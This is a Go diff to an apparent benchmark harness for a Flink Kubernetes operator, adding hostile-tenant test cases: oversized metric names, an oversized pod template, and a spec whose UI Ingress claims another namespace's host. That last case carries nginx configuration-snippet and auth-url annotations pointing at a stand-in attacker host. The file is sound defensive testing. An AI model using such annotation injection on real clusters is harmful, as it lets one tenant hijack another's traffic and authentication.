@@ -38,6 +38,10 @@ type tenant struct {
 	faults flinksim.Faults
 	// jarPath is its jar host's path, for a session-job tenant.
 	jarPath string
+	// load, when set, is what its FlinkApplication's job runs (a JobManager whose metrics are hostile).
+	load *flinksim.Load
+	// spec, when set, changes its FlinkApplication's spec: the hostile input is the spec itself.
+	spec func(*v1beta1.FlinkApplication)
 }
 
 func (t tenant) namespace() string { return "hostile-" + t.name }
@@ -57,7 +61,10 @@ const (
 	tenantJob     = "job"
 )
 
-// hostileTenants are issue 25's ten: huge and deeply nested answers, slow-drip answers, a
+// hostileTenants are issue 25's ten, and three that try what issue 55 bounded: a JobManager whose
+// job has more vertices than the autoscaler tracks, each listing megabytes of metric names; a spec
+// whose UI Ingress claims another namespace's host with configuration-snippet annotations; and a
+// pod template near the API server's object size. Issue 25's ten are: huge and deeply nested answers, slow-drip answers, a
 // JobManager that never answers, a 200 MiB jar, a redirect loop, a jar host that stalls (and one
 // that drips). The answer tenants let the job be submitted and then answer its reads hostilely
 // (huge-job, dense-job and nested answer the fence's 404 hostilely too, which costs the client
@@ -101,7 +108,48 @@ func hostileTenants() []tenant {
 		{name: "jar-redirect-loop", what: "a session job whose jar host redirects to itself forever", jarPath: jarRedirect},
 		{name: "jar-stall", what: "a session job whose jar host accepts the request and never answers", jarPath: jarStall},
 		{name: "jar-drip", what: fmt.Sprintf("a session job whose jar host announces %d MiB and sends 2 bytes a second", dripJarBytes>>20), jarPath: jarDrip},
+		{name: "autoscaler-names", what: "an autoscaled job of 250 vertices, each subtask listing 2,000 metric names of 1 KiB",
+			load: wideJobWithLongMetricNames(), spec: autoscaled},
+		{name: "ingress-claim", what: "a UI Ingress for another namespace's host, with configuration-snippet and auth-url annotations",
+			spec: claimsAnotherNamespacesHost},
+		{name: "template-large", what: "a pod template of about 1 MiB (environment values), rendered at every deploy", spec: largePodTemplate},
 	}
+}
+
+// wideJobWithLongMetricNames is a job the autoscaler may not track (more vertices than its budget),
+// whose every vertex lists metric names the operator must not keep.
+func wideJobWithLongMetricNames() *flinksim.Load {
+	l := &flinksim.Load{Input: flinksim.Constant(100)}
+	for i := 0; i < 250; i++ {
+		l.Vertices = append(l.Vertices, flinksim.LoadVertex{Name: fmt.Sprintf("Map %d", i), Capacity: 1000,
+			UserMetrics: 2000, UserMetricNameBytes: 1024})
+	}
+	l.Vertices[0].Name, l.Vertices[0].PendingRecords = "Source: input", true
+	return l
+}
+
+func autoscaled(a *v1beta1.FlinkApplication) {
+	a.Spec.FlinkConfig["jobmanager.scheduler"] = "adaptive"
+	a.Spec.Autoscaler = &v1beta1.AutoscalerSpec{Mode: v1beta1.AutoscalerApply}
+}
+
+// claimsAnotherNamespacesHost asks for the UI at a host of the ordinary applications' namespace,
+// with annotations that would hand the shared ingress controller configuration and a backend.
+func claimsAnotherNamespacesHost(a *v1beta1.FlinkApplication) {
+	a.Spec.Ingress = &v1beta1.IngressSpec{Template: "ui.bench.flink.test", Annotations: map[string]string{
+		"nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers \"X-Owned: yes\";",
+		"nginx.ingress.kubernetes.io/auth-url":              "http://attacker.example/auth",
+	}}
+}
+
+// largePodTemplate gives the JobManager a pod template of about 1 MiB: what the operator caches,
+// hashes and renders for one object.
+func largePodTemplate(a *v1beta1.FlinkApplication) {
+	var env []corev1.EnvVar
+	for i := 0; i < 256; i++ {
+		env = append(env, corev1.EnvVar{Name: fmt.Sprintf("PADDING_%d", i), Value: strings.Repeat("x", 4000)})
+	}
+	a.Spec.PodTemplate = &corev1.PodTemplateSpec{Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "flink-main-container", Env: env}}}}
 }
 
 // denseJob is GET /jobs/:id at its costliest for a client that checks its shape before decoding:
@@ -124,7 +172,16 @@ func (b *bench) createTenant(ctx context.Context, t tenant, jars *jarHosts) erro
 	}
 	if t.jarPath == "" {
 		b.env.Fleet.SetFaults(ns, tenantApp, t.faults)
-		_, err := b.apps.FlinkV1beta1().FlinkApplications(ns).Create(ctx, benchApp(ns, tenantApp, 1, ""), metav1.CreateOptions{})
+		if t.load != nil {
+			if err := b.env.Fleet.SetLoad(ns, tenantApp, *t.load); err != nil {
+				return err
+			}
+		}
+		app := benchApp(ns, tenantApp, 1, "")
+		if t.spec != nil {
+			t.spec(app)
+		}
+		_, err := b.apps.FlinkV1beta1().FlinkApplications(ns).Create(ctx, app, metav1.CreateOptions{})
 		return err
 	}
 	if _, err := b.apps.FlinkV1beta1().FlinkSessionClusters(ns).Create(ctx, sessionCluster(ns), metav1.CreateOptions{}); err != nil {
